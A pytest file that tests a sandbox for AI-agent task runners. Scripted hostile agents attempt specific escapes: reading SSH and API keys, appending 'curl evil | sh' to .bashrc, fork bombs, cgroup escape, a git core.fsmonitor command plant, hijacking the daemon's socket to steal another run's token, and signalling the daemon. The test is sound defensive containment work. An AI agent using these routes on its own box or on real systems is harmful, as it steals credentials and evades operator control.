"""Hostile agents: each one a real agent, started by a real daemon, trying one way out of its
box. With the sandbox on (`[roles.NAME.isolation] mode = "bwrap"`, caps, `network = "none"`)
every attempt fails and the fleet goes on; with the sandbox off the same attempts succeed,
so each test would catch an escape.

One fleet per mode runs every attempt at once (a role per attempt), then, once they are all
over, a harmless task of another role (the fleet goes on); then, each after the other since
each would break the fleet it escapes from, the git roles whose merge runs the daemon's git
in their worktree, the agent that takes the door, and last the SIGTERM to the daemon and its
fork server (unboxed it really stops the fleet). Each agent says what it
managed in its own output (its run's log, which the daemon keeps), never through something
the box would hide. The fleet lives in /var/tmp, as a real user's files do: a box's /tmp is
its own.
"""

from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import tempfile
import textwrap
from dataclasses import dataclass
from pathlib import Path

import psutil
import pytest

from taskherd.host import procs
from taskherd.host.sandbox import STAGE_NAME
from taskherd.model import FINAL_STATES, Outcome, Task, TaskState
from tests.fleet import PYTHON, Fleet

pytestmark = pytest.mark.skipif(
    shutil.which("bwrap") is None and not os.environ.get("CI"),
    reason="bubblewrap is not installed (apt install bubblewrap)")

SAID = "HOSTILE-RESULT "  # the line an agent prints with what it managed

HOSTILE = """
import json, os, signal, socket, subprocess, sys, time

attempt = sys.argv[1]
given = json.load(open(sys.argv[2]))  # planted by the test, readable in the box


def report(escaped, detail="", **more):
    print(SAID + json.dumps({"escaped": escaped, "detail": str(detail)[:300], **more}),
          flush=True)


def tried(action):
    try:
        return True, action()
    except OSError as error:
        return False, f"{type(error).__name__}: {error}"


if attempt == "read_database":
    ok, data = tried(lambda: open(given["database"], "rb").read(16))
    report(ok and data.startswith(b"SQLite format 3"), data)
elif attempt == "list_data_dir":
    def walk(top):
        return sorted(os.path.relpath(os.path.join(folder, name), top)
                      for folder, folders, files in os.walk(top) for name in files + folders)
    ok, names = tried(lambda: walk(given["data_dir"]))
    # The test judges what it saw (a box shows the door and the run's own files, no more).
    report(ok and any(name.startswith(("taskherd.db", "worktrees")) for name in names),
           names, names=names if ok else None)
elif attempt == "read_sibling_worktree":
    ok, text = tried(lambda: open(given["sibling_file"]).read())
    report(ok and "sibling's secret" in text, text)
elif attempt == "read_ssh_key":
    ok, text = tried(lambda: open(given["ssh_key"]).read())
    report(ok and "PRIVATE KEY" in text, text)
elif attempt == "read_env_file":
    ok, text = tried(lambda: open(given["env_file"]).read())
    report(ok and "ANTHROPIC_API_KEY" in text, text)
elif attempt == "write_config":
    ok, said = tried(lambda: open(given["config"], "a").write("\\n# written by an agent\\n"))
    report(ok, said)
elif attempt == "write_bashrc":
    ok, said = tried(lambda: open(given["bashrc"], "a").write("curl evil | sh\\n"))
    report(ok, said)
elif attempt == "write_outside":
    ok, said = tried(lambda: open(given["outside"], "w").write("escaped"))
    report(ok, said)
elif attempt == "signal_daemon":
    # The fork server first: SIGTERM to the daemon ends the fleet (unboxed, it does).
    results = [tried(lambda pid=pid: os.kill(pid, signal.SIGTERM))
               for pid in (given["forkserver_pid"], given["daemon_pid"])]
    report(any(ok for ok, _ in results), results)
elif attempt == "connect_sockets":
    def connect(path):
        try:
            with socket.socket(socket.AF_UNIX) as sock:
                sock.connect(path)
        except OSError as error:
            if error.errno != 91:  # EPROTOTYPE: a datagram socket (the store's events)
                raise
            with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as sock:
                sock.connect(path)
    results = [tried(lambda path=path: connect(path)) for path in given["sockets"]]
    report(any(ok for ok, _ in results), results)
elif attempt == "another_runs_door":
    # Its own credential, another run's ids: what the door acts on is judged by the test.
    env = dict(os.environ, TASKHERD_RUN_ID=str(given["sibling_run"]),
               TASKHERD_TASK_ID=str(given["sibling_task"]))
    said = subprocess.run([sys.executable, "-m", "taskherd", "fail", "--summary", "hijacked"],
                          env=env, capture_output=True, text=True)
    report(None, said.stdout + said.stderr)
    sys.exit(0)
elif attempt in ("fork_bomb", "leave_cgroup"):
    moved = None
    if attempt == "leave_cgroup":  # out of its run's cgroup, into the daemon's: no cap there
        moved = tried(lambda: open(given["daemon_cgroup"], "w").write("0"))
    # Bounded for safety: at most 4 x pids sleepers, all killed before it exits.
    children, refused = [], 0
    for _ in range(4 * given["pids_cap"]):
        try:
            pid = os.fork()
        except OSError:
            refused += 1
            continue
        if pid == 0:
            time.sleep(60)
            os._exit(0)
        children.append(pid)
    for pid in children:
        os.kill(pid, signal.SIGKILL)
    for pid in children:
        os.waitpid(pid, 0)
    report(len(children) > given["pids_cap"],
           f"moved: {moved}; {len(children)} forked, {refused} refused", forked=len(children))
elif attempt == "eat_memory":
    eaten = [bytearray(4 << 20) for _ in range(64)]  # 256 MiB, every page touched
    report(True, f"ate {len(eaten) * 4} MiB")  # never said when its cap holds
elif attempt in ("run_at_merge", "redirect_commondir"):
    # The daemon's git commits the worktree's leftovers at the merge, outside the box, and
    # finds the repository where the worktree says: its .git file (run_at_merge), or the
    # commondir file of the worktree's own folder in the repository's .git, which the box
    # leaves writable (redirect_commondir). Either may name a repository of the agent's own,
    # whose config runs a command (core.fsmonitor) at `git status`.
    def plant():
        subprocess.run(["git", "init", "-q", "elsewhere"], check=True, capture_output=True)
        with open("elsewhere/.git/config", "a") as config:
            config.write('[core]\\n\\tfsmonitor = "echo ran > %s-%s; false"\\n'
                         % (given["ran"], attempt))
        if attempt == "run_at_merge":
            with open(".git", "w") as pointer:
                pointer.write("gitdir: " + os.path.abspath("elsewhere/.git") + "\\n")
        else:
            own = open(".git").read().split("gitdir: ", 1)[1].strip()
            with open(os.path.join(own, "commondir"), "w") as common:
                common.write(os.path.abspath("elsewhere/.git") + "\\n")
        with open("leftover.txt", "w") as leftover:  # work the daemon must commit
            leftover.write("done")
    ok, said = tried(plant)
    report(None if ok else False, said)  # whether it ran outside: judged by the test
elif attempt == "hijack_door":
    # The door's socket is one for every run: put its own in its place, and read what the
    # next agent to report sends (its credential).
    def take():
        os.unlink(given["door"])
        server = socket.socket(socket.AF_UNIX)
        server.bind(given["door"])
        server.listen()
        server.settimeout(30)
        return server
    ok, server = tried(take)
    if not ok:
        report(False, server)
    else:
        print("HOSTILE-LISTENING", flush=True)  # the test starts an agent that reports
        ok, line = tried(lambda: server.accept()[0].makefile().readline())
        request = json.loads(line) if ok and line else {}
        theirs = request.get("token")
        report(bool(theirs) and theirs != os.environ["TASKHERD_RUN_TOKEN"],
               f"took {request.get('op')!r} of another run" if theirs else line)
elif attempt == "reach_the_network":
    ok, said = tried(lambda: socket.create_connection(("127.0.0.1", given["port"]), 2).close())
    report(ok, said)
print("TASK_COMPLETE: tried")
""".replace("SAID + ", f"{SAID!r} + ")

VICTIM = """
import os, time
open("secret.txt", "w").write("the sibling's secret")
while not os.path.exists("release"):  # its work, until the test lets it finish
    time.sleep(0.05)
print("TASK_COMPLETE: done")
"""

# All at once, in the fleet they try to escape; signal_daemon comes after them (see module doc).
ATTEMPTS = ("read_database", "list_data_dir", "read_sibling_worktree", "read_ssh_key",
            "read_env_file", "write_config", "write_bashrc", "write_outside", "connect_sockets",
            "another_runs_door", "fork_bomb", "leave_cgroup", "eat_memory", "reach_the_network")
# After them, one at a time: each would break the fleet it escapes from.
MERGES, DOOR, LAST = ("run_at_merge", "redirect_commondir"), "hijack_door", "signal_daemon"
GIT_ROLES = ("read_sibling_worktree", *MERGES)  # a worktree of its own, beside its sibling's
PIDS, MEMORY = 32, "64M"
IDENTITY = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
            "GIT_COMMITTER_EMAIL": "t@t"}


def isolation(attempt: str, boxed: bool) -> str:
    if attempt == "leave_cgroup":  # capped either way: unboxed, the cap alone is escaped
        return f'mode = "{"bwrap" if boxed else "off"}", pids = {PIDS}'
    if not boxed:
        return 'mode = "off"'
    table = 'mode = "bwrap"'
    if attempt == "fork_bomb":
        table += f", pids = {PIDS}"
    if attempt == "eat_memory":
        table += f', memory = "{MEMORY}"'
    if attempt == "reach_the_network":
        table += ', network = "none"'
    return table


def hostile_fleet(root: Path, boxed: bool) -> Fleet:
    (root / "home" / ".ssh").mkdir(parents=True)
    (root / "home" / ".ssh" / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----")
    (root / "home" / ".bashrc").write_text("# the operator's\n")
    (root / "taskherd.env").write_text("ANTHROPIC_API_KEY=sk-secret\n")
    (root / "hostile.py").write_text(HOSTILE)
    (root / "victim.py").write_text(textwrap.dedent(VICTIM))
    repo = root / "repo"
    repo.mkdir()
    for args in (("init", "-q", "-b", "main"), ("commit", "-q", "--allow-empty", "-m", "start")):
        subprocess.run(["git", "-C", str(repo), *args], check=True,
                       env={"PATH": "/usr/bin:/bin", **IDENTITY})
    roles = ""
    for attempt in (*ATTEMPTS, *MERGES, DOOR, LAST):
        where = 'git = { repo = "repo" }'
        if attempt not in GIT_ROLES:
            (root / "work" / attempt).mkdir(parents=True)
            where = f'workdir = "work/{attempt}"'
        roles += f"""
        [roles.{attempt}]
        command = ["{PYTHON}", "-S", "{root / 'hostile.py'}", "{attempt}", "{root / 'given.json'}"]
        {where}
        max_attempts = 1
        isolation = {{ {isolation(attempt, boxed)} }}
        """
    fleet = Fleet(root, f"""
        [daemon]
        data_dir = "data"
        timezone = "UTC"
        path = "/usr/bin:/bin"
        max_concurrent = 20
        agent_report_wait = "5s"  # the reporter's, whose door may have been taken
        {roles}
        [roles.victim]
        command = ["{PYTHON}", "-S", "{root / 'victim.py'}"]
        git = {{ repo = "repo" }}
        isolation = {{ {'mode = "bwrap"' if boxed else 'mode = "off"'} }}

        [roles.bystander]
        command = ["echo", "TASK_COMPLETE: unharmed"]

        [roles.reporter]
        command = ["{PYTHON}", "-m", "taskherd", "heartbeat"]
        max_attempts = 1
    """)
    fleet.env["HOME"] = str(root / "home")  # the daemon's: nothing real is touched
    return fleet


def over(fleet: Fleet, task: Task, timeout: float = 20.0) -> Task:
    """`task` once its agent is done: final, or a git role's `merging`. Its merge concerns no
    test here, and may wait for the merger's 30 s poll (the event that wakes the merger is a
    hint, lost when a burst of them fills the listener's datagram queue)."""
    return fleet.wait_until(
        lambda: (now := fleet.store.get_task(task.id)).state in (*FINAL_STATES,
                                                                  TaskState.MERGING) and now,
        timeout, f"task {task.id} to be over")


def printed(fleet: Fleet, task: Task, start: str) -> str | None:
    """The first line the task's agent printed that starts with `start`."""
    for run in fleet.store.runs_of_task(task.id):
        if run.log_path and os.path.exists(run.log_path):
            for line in Path(run.log_path).read_text(errors="replace").splitlines():
                if line.startswith(start):
                    return line
    return None


def said(fleet: Fleet, task: Task) -> dict | None:
    """What the task's agent printed it managed (None: it never said, killed first)."""
    line = printed(fleet, task, SAID)
    return json.loads(line[len(SAID):]) if line else None


def pids_cgroup_procs(pid: int) -> str:
    """The cgroup.procs file of the pids cgroup `pid` is in (cgroup v1 or v2): writing an
    agent's pid there takes it out of its run's cgroup, and so out of its caps."""
    for line in Path(f"/proc/{pid}/cgroup").read_text().splitlines():
        _, controllers, path = line.split(":", 2)
        if "pids" in controllers.split(","):
            return f"/sys/fs/cgroup/pids{path.rstrip('/')}/cgroup.procs"
    [path] = [line.split("::", 1)[1] for line in Path(f"/proc/{pid}/cgroup").read_text()
              .splitlines() if line.startswith("0::")]
    return f"/sys/fs/cgroup{path.rstrip('/')}/cgroup.procs"


@dataclass
class Trial:
    """One mode's attempts: what each agent said it managed, and the fleet they ran in."""

    boxed: bool
    results: dict[str, dict | None]
    fleet: Fleet
    tasks: dict[str, Task]
    victim: Task
    victim_run: int
    bystander: Task  # added once every attempt but the signal was over
    reporter: Task  # reports through the door once hijack_door took it (or could not)
    after_signal: Task | None  # added after the SIGTERMs (boxed: the fleet still runs)
    forkserver: psutil.Process
    daemon_code: int | None  # the daemon's exit code after the SIGTERMs (None: runs on)


@pytest.fixture(scope="module", params=["boxed", "unboxed"])
def attempts(request):
    """Every attempt of one mode, made in one fleet (see the module's doc)."""
    boxed = request.param == "boxed"
    host_dir = Path(tempfile.mkdtemp(prefix="taskherd-hostile-", dir="/var/tmp"))
    listener = socket.create_server(("127.0.0.1", 0))
    fleet = hostile_fleet(host_dir, boxed)
    try:
        fleet.up()
        victim = fleet.add("keep a secret", role="victim")
        [victim_run] = fleet.wait_until(
            lambda: [r for r in fleet.store.runs_of_task(victim.id) if r.pid], what="the victim")
        worktree = fleet.data_dir / "worktrees" / f"task-{victim.id}"
        fleet.wait_until((worktree / "secret.txt").exists, what="the victim's secret")
        daemon = psutil.Process(fleet.daemon.pid)
        [forkserver] = fleet.wait_until(lambda: [
            child for child in daemon.children() if "--serve" in child.cmdline()],
            what="the fork server")
        # The daemon's other sockets (its store's event sockets): not the agent's own door.
        # (The fork server has none: the daemon speaks to it through pipes.)
        sockets = [str(path) for path in host_dir.rglob("*.sock")
                   if path.is_socket() and path.resolve().parent.name != "door"]
        assert sockets
        (host_dir / "given.json").write_text(json.dumps({
            "database": str(fleet.data_dir / "taskherd.db"), "data_dir": str(fleet.data_dir),
            "sibling_file": str(worktree / "secret.txt"),
            "ssh_key": str(host_dir / "home" / ".ssh" / "id_ed25519"),
            "env_file": str(host_dir / "taskherd.env"), "config": str(fleet.config_path),
            "bashrc": str(host_dir / "home" / ".bashrc"),
            "outside": str(host_dir / "outside.txt"),
            "daemon_pid": daemon.pid, "forkserver_pid": forkserver.pid,
            "door": str(fleet.data_dir / "door" / "agent.sock"),
            "ran": str(host_dir / "ran"),
            "sockets": sockets, "sibling_run": victim_run.id, "sibling_task": victim.id,
            "pids_cap": PIDS, "daemon_cgroup": pids_cgroup_procs(daemon.pid),
            "port": listener.getsockname()[1]}))
        tasks = {attempt: fleet.add(attempt, role=attempt) for attempt in ATTEMPTS}
        for task in tasks.values():
            over(fleet, task, timeout=60)
        bystander = fleet.add("unharmed", role="bystander")
        fleet.wait_final(bystander.id)
        for attempt in MERGES:
            tasks[attempt] = fleet.add(attempt, role=attempt)
        (worktree / "release").write_text("")
        over(fleet, victim)
        # Merged, or blocked by a merge that failed: the daemon's git has looked at its
        # worktree (after the merger's poll, at worst, should the event that wakes it be lost).
        for attempt in MERGES:
            fleet.wait_until(lambda task=tasks[attempt]: fleet.store.get_task(task.id).state in (
                *FINAL_STATES, TaskState.BLOCKED), 45, f"{attempt} merged")
        tasks[DOOR] = fleet.add(DOOR, role=DOOR)
        fleet.wait_until(lambda: said(fleet, tasks[DOOR]) or printed(
            fleet, tasks[DOOR], "HOSTILE-LISTENING"), what="the door taken, or not")
        reporter = fleet.add("report through the door", role="reporter")
        over(fleet, tasks[DOOR], timeout=40)
        over(fleet, reporter)
        tasks[LAST] = fleet.add(LAST, role=LAST)
        fleet.wait_until(lambda: said(fleet, tasks[LAST]), what="the signals sent")
        after_signal, daemon_code = None, None
        if boxed:
            fleet.wait_final(tasks[LAST].id)
            after_signal = fleet.add("unharmed after the signals", role="bystander")
            fleet.wait_final(after_signal.id)
        else:
            daemon_code = fleet.daemon.wait(30)  # stopped by the agent's SIGTERM
            forkserver.wait(10)
        results = {attempt: said(fleet, task) for attempt, task in tasks.items()}
        yield Trial(boxed, results, fleet, tasks, victim, victim_run.id, bystander, reporter,
                    after_signal, forkserver, daemon_code)
    finally:
        listener.close()
        fleet.close()
        if not os.environ.get("KEEP_HOST_DIR"):
            shutil.rmtree(host_dir, ignore_errors=True)


def test_every_escape_fails_in_the_box_and_succeeds_out_of_it(attempts):
    judged = {attempt: attempts.results[attempt] for attempt in (*ATTEMPTS, DOOR, LAST)
              if attempt not in ("another_runs_door", "eat_memory", *MERGES)}
    # Every attempt was made: an agent that never ran escapes nothing and proves nothing.
    assert all(judged.values()), {attempt: attempts.fleet.store.get_task(
        attempts.tasks[attempt].id).last_error for attempt, r in judged.items() if r is None}
    escaped = {attempt: result["escaped"] for attempt, result in judged.items()}
    if attempts.boxed:
        assert not any(escaped.values()), {a: judged[a] for a, e in escaped.items() if e}
    else:
        assert all(escaped.values()), {a: judged[a] for a, e in escaped.items() if not e}
    root, boxed = attempts.fleet.root, attempts.boxed
    assert ("written by an agent" in attempts.fleet.config_path.read_text()) is not boxed
    assert ("curl evil" in (root / "home" / ".bashrc").read_text()) is not boxed
    assert (root / "outside.txt").exists() is not boxed


def test_a_boxed_agent_without_git_starts_in_its_roles_box_spare(attempts):
    # Made before the claim (the daemon asks for one per boxed role at its start), so the
    # escapes above were tried from a box spare's agent; a git role's box is made cold.
    fleet = attempts.fleet
    started = {attempt: procs.read_header(Path(fleet.store.runs_of_task(task.id)[-1].log_path))
               for attempt, task in attempts.tasks.items()}
    spared = {attempt for attempt, header in started.items() if header.get("box") == "spare"}
    if attempts.boxed:
        assert spared == set(attempts.tasks) - set(GIT_ROLES)
    else:
        assert not spared


def test_the_data_dir_shows_a_boxed_agent_its_door_alone(attempts):
    fleet = attempts.fleet
    names = set(attempts.results["list_data_dir"]["names"])
    if attempts.boxed:
        [run] = fleet.store.runs_of_task(attempts.tasks["list_data_dir"].id)
        logs = Path(run.log_path).parent.relative_to(fleet.data_dir)
        # Its door and its own run's files (log, prompt; the folders on the way to them):
        # nothing of the daemon's or of another run's.
        own = {name for name in names if Path(name).parent == logs
               and Path(name).name.startswith(f"run-{run.id}.")}
        # (and, through a box spare, the folder its starter bound those files in from: an
        # empty read-only tmpfs none may read covers it, whose content the walk never sees)
        assert names - own <= {"agent.sock", "door", "door/agent.sock", STAGE_NAME,
                               *(str(folder) for folder in (logs, *logs.parents)
                                 if folder != Path("."))}
        assert "agent.sock" in names
    else:
        assert {"taskherd.db", "worktrees", "agent.sock"} <= names


def test_a_fork_bomb_stops_at_the_pids_cap(attempts):
    forked = attempts.results["fork_bomb"]["forked"]
    if attempts.boxed:
        assert 0 < forked <= PIDS
    else:
        assert forked == 4 * PIDS
    assert attempts.fleet.store.get_task(
        attempts.tasks["fork_bomb"].id).state is TaskState.COMPLETED


def test_a_capped_agent_cannot_leave_its_cgroup_in_the_box(attempts):
    # Capped both ways; only the box keeps it in its run's cgroup (the cgroup files are
    # read-only in there): out of the box it moves itself to the daemon's and forks past pids.
    result = attempts.results["leave_cgroup"]
    if attempts.boxed:
        assert 0 < result["forked"] <= PIDS and "Read-only file system" in result["detail"]
    else:
        assert result["forked"] == 4 * PIDS


def test_memory_past_the_cap_is_killed_naming_it_for_one_strike(attempts):
    task = attempts.fleet.store.get_task(attempts.tasks["eat_memory"].id)
    if attempts.boxed:
        assert attempts.results["eat_memory"] is None  # killed before it could say it ate
        assert task.state is TaskState.DEAD and task.attempts == 1
        assert task.last_error.startswith("out of memory: 64.0 MiB cap")
        [run] = attempts.fleet.store.runs_of_task(task.id)
        assert "out of memory" in run.error and "64.0 MiB" in run.error
        shown = attempts.fleet.cli("task", "show", str(task.id)).stdout
        assert "out of memory: 64.0 MiB cap" in shown
    else:
        assert attempts.results["eat_memory"]["escaped"]
        assert task.state is TaskState.COMPLETED


def test_signals_reach_neither_the_daemon_nor_its_fork_server(attempts):
    if attempts.boxed:
        # Its own PID namespace: neither pid exists in there (ESRCH), both run on, and a task
        # added after the SIGTERMs completes.
        assert attempts.results[LAST]["detail"].count("ProcessLookupError") == 2
        assert attempts.fleet.daemon.poll() is None and attempts.forkserver.is_running()
        assert attempts.fleet.store.get_task(
            attempts.after_signal.id).state is TaskState.COMPLETED
    else:
        assert attempts.daemon_code is not None and not attempts.forkserver.is_running()


@pytest.mark.parametrize("attempt", MERGES)
def test_the_daemons_git_runs_nothing_an_agent_planted(attempts, attempt):
    # Boxed or not: the daemon's own git reads the worktree's repository from the repository,
    # never from what the agent wrote (tests/integration/test_worktrees.py shows the same
    # plants run a command through a git that trusts the worktree).
    assert attempts.results[attempt] == {"escaped": None, "detail": "None"}  # it planted
    assert not (attempts.fleet.root / f"ran-{attempt}").exists()


def test_the_door_cannot_be_taken_from_the_other_runs(attempts):
    reporter = attempts.fleet.store.get_task(attempts.reporter.id)
    if attempts.boxed:
        # The door stays the daemon's: the next agent's heartbeat reached it.
        assert not attempts.results[DOOR]["escaped"]
        assert reporter.state is TaskState.COMPLETED, reporter.last_error
    else:
        assert attempts.results[DOOR]["escaped"]  # another run's credential, taken


def test_its_own_credential_acts_on_no_other_run_and_the_fleet_goes_on(attempts):
    fleet = attempts.fleet
    # The door knows a run by its credential: the 'fail' landed on the attempt's own run.
    own = fleet.store.runs_of_task(attempts.tasks["another_runs_door"].id)[-1]
    assert own.report == "fail" and own.report_summary == "hijacked"
    # The victim's run ended as its agent said (merged then, or still merging: its merge
    # waits for nothing of this test's), untouched by the other's report.
    done = fleet.store.get_task(attempts.victim.id)
    assert done.state in (TaskState.MERGING, TaskState.COMPLETED)
    [run] = fleet.store.runs_of_task(attempts.victim.id)
    assert run.id == attempts.victim_run and run.report is None
    assert run.outcome is Outcome.SUCCEEDED, run.outcome
    assert fleet.store.get_task(attempts.bystander.id).state is TaskState.COMPLETED
